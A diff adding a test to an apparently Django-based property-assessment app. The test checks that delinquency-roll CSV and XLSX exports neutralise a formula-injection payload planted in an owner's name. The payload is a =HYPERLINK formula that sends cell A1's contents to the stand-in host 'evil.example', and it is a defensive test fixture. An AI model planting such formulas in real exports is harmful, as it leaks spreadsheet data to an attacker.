@@ -235,3 +235,29 @@ def test_pages_come_from_sql_in_the_same_order(setup):
     assert rows.count() == len(rows) == 2
     assert rows[1:2] == everything[1:2] and rows[0:1] == everything[0:1]
     assert aging.delinquent_count(as_of=AS_OF, fund_code="franquicias") == 0
+
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Pagar aquí")'
+
+
+def test_exports_never_carry_a_live_formula(billed_roll, staff_client):
+    """A party named like a formula reaches the delinquency CSV and XLSX as inert text."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from assessments.rolls.models import RollLine
+
+    for line in RollLine.objects.filter(roll=billed_roll).select_related("parcel")[:3]:
+        factories.own(line.parcel, factories.person(given=EVIL, first=EVIL, second=""))
+    params = {"district": "riego-sur", "as_of": "2027-03-01"}
+    text = staff_client.get("/padrones/morosidad/", {**params, "format": "csv"}).content.decode()
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert any("HYPERLINK" in c for c in cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    xlsx = staff_client.get("/padrones/morosidad/", {**params, "format": "xlsx"}).content
+    ws = load_workbook(io.BytesIO(xlsx)).active
+    xcells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert any("HYPERLINK" in str(c.value) for c in xcells)
+    assert not [c.coordinate for c in xcells if c.data_type == "f" or str(c.value).startswith("=")]
